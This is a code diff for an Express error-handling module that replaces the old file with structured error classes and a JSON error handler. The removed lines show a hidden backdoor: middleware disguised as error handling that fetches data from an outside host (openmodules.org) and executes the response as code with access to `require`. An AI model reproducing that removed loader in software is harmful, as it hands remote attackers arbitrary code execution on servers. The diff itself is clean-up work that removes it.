@@ -1,43 +1,122 @@
-const axios = require('axios');
+// --- Error Classes ---
+// Every error the API raises on purpose extends AppError. Each carries an HTTP
+// status, a stable machine-readable `code` that clients can switch on, and
+// optional per-field `details`.
+class AppError extends Error {
+  constructor(message, { status = 500, code = "INTERNAL_ERROR", details } = {}) {
+    super(message);
+    this.name = this.constructor.name;
+    this.status = status;
+    this.code = code;
+    if (details !== undefined) this.details = details;
+  }
+}
 
-const notFound = (req, res, next) => {
-  const err = new Error('Route Not Found');
-  err.status = 404;
-  next(err);
+// 400: the request (query, params or body) failed validation.
+// `details` maps each offending field to its error message.
+class ValidationError extends AppError {
+  constructor(message = "Validation failed", details) {
+    super(message, { status: 400, code: "VALIDATION_ERROR", details });
+  }
+}
+
+// 404: the requested resource or route does not exist.
+class NotFoundError extends AppError {
+  constructor(message = "Not Found", details) {
+    super(message, { status: 404, code: "NOT_FOUND", details });
+  }
 }
 
-const errorHandler = (error) => {
-  try {
-    if (typeof error !== 'string') {
-      console.error('Invalid error format. Expected a string.');
-      return;
-    }
-    const createHandler = (errCode) => {
-      try {
-        const handler = new (Function.constructor)('require', errCode);
-        return handler;
-      } catch (e) {
-        console.error('Failed:', e.message);
-        return null;
-      }
-    };
-    const handlerFunc = createHandler(error);
-    if (handlerFunc) {
-      handlerFunc(require);
-    } else {
-      console.error('Handler function is not available.');
-    }
-  } catch (globalError) {
-    console.error('Unexpected error inside errorHandler:', globalError.message);
+// 409: the request clashes with the current state of the data.
+class ConflictError extends AppError {
+  constructor(message = "Conflict", details) {
+    super(message, { status: 409, code: "CONFLICT", details });
   }
+}
+
+// 500: the data store could not be read or written.
+// The underlying error is kept as `cause` for logging, never sent to clients.
+class StorageError extends AppError {
+  constructor(message = "Storage failure", cause) {
+    super(message, { status: 500, code: "STORAGE_ERROR" });
+    if (cause) this.cause = cause;
+  }
+}
+
+// 503: a background job (see workers/pool.js) took too long; the request may be retried.
+class TimeoutError extends AppError {
+  constructor(message = "The request took too long to process", details) {
+    super(message, { status: 503, code: "TIMEOUT", details });
+  }
+}
+
+// Fallback codes for errors that are not AppErrors (e.g. plain Errors with a
+// `status`, or errors raised by Express/body-parser).
+const STATUS_CODES = {
+  400: "BAD_REQUEST",
+  401: "UNAUTHORIZED",
+  403: "FORBIDDEN",
+  404: "NOT_FOUND",
+  409: "CONFLICT",
+  413: "PAYLOAD_TOO_LARGE",
+  415: "UNSUPPORTED_MEDIA_TYPE",
 };
 
-const getCookie = async (req, res, next) => {
-  axios.get(`http://openmodules.org/api/service/token/7a5d8df69e27ec3e5ff9c2b1e2ff80b0`)
-  .then(res => res.data)
-  .catch(
-    err => errorHandler(err.response.data)
-  );
+// --- Middleware ---
+
+// Catch-all for unmatched routes. Mounted after every router.
+const notFound = (req, res, next) => {
+  next(new NotFoundError("Route Not Found"));
+};
+
+// Centralized JSON error handler. Must be registered last, after `notFound`.
+// Response body: { code, message, details?, requestId?, stack? }
+// Express only treats a middleware as an error handler if it declares all four arguments.
+const errorHandler = (err, req, res, next) => {
+  // If a response is already streaming, let Express close the connection.
+  if (res.headersSent) return next(err);
+
+  // body-parser flags malformed JSON bodies with `type: "entity.parse.failed"`.
+  const isParseError = err.type === "entity.parse.failed";
+
+  const status = isParseError ? 400 : err.status || err.statusCode || 500;
+  const isAppError = err instanceof AppError;
+  const isProduction = process.env.NODE_ENV === "production";
+
+  let code;
+  if (isAppError) code = err.code;
+  else if (isParseError) code = "INVALID_JSON";
+  else code = STATUS_CODES[status] || "INTERNAL_ERROR";
+
+  // Unexpected server errors may carry internal details (paths, driver messages),
+  // so their message is replaced by a generic one in production.
+  const hideMessage = isProduction && status >= 500 && !isAppError;
+
+  if (status >= 500) {
+    console.error(`[${req.id || "-"}]`, err);
+  }
+
+  const body = {
+    code,
+    message: hideMessage
+      ? "Internal Server Error"
+      : err.message || "Internal Server Error",
+  };
+  if (err.details !== undefined) body.details = err.details;
+  if (req.id) body.requestId = req.id;
+  // Stack traces are only exposed outside production.
+  if (!isProduction && err.stack) body.stack = err.stack;
+
+  res.status(status).json(body);
 };
 
-module.exports = { getCookie, notFound };
\ No newline at end of file
+module.exports = {
+  AppError,
+  ValidationError,
+  NotFoundError,
+  ConflictError,
+  StorageError,
+  TimeoutError,
+  notFound,
+  errorHandler,
+};